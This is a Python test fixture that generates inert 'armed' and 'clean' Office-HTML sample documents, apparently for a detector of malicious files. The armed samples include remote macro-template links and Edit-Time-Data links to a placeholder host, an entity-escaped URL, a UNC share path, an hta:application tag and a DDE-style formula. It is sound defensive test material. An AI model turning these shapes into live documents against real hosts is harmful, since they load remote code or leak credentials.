OFFICE = 'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"'


def page(head: str = "", body: str = "Text") -> bytes:
    return f"<html {OFFICE}><head>{head}</head><body>{body}</body></html>".encode()


def conditional(content: str) -> str:
    return f"<!--[if gte mso 9]><xml>{content}</xml><![endif]-->"


def template(address: str) -> str:
    return conditional(f'<w:WordDocument><w:AttachedTemplate HRef="{address}"/></w:WordDocument>')


FILES = {
    "armed-project.doc": lambda: page('<link rel=Edit-Time-Data href="http://host.example/editdata.mso">'),
    "armed-project-on-a-share.doc": lambda: page("<LINK REL='Edit-Time-Data' HREF='\\\\host.example\\s\\e.mso'>"),
    "armed-template.doc": lambda: page(template("https://host.example/t.dotm")),
    "armed-template-escaped.doc": lambda: page(template("h&#116;tps://host.example/t.dotm")),
    "armed-cell.xls": lambda: page(body="<table><td x:fmla=\"=inert|'x'!A0\">1</td></table>"),
    "armed-application.doc": lambda: b"<html><head><hta:application id=x></head><body>inert</body></html>",
    "clean-project-beside-it.doc": lambda: page('<link rel=Edit-Time-Data href="a_files/editdata.mso">'),
    "clean-mail.html": lambda: page('<link rel=File-List href="cid:filelist.xml@01D">' + conditional("<o:x/>")),
    "clean-template.doc": lambda: page(template("file:///C:/t.dotm")),
    "clean-table.xls": lambda: page(body='<table><td x:fmla="=SUM(A1:A2)">1</td></table>'),
}
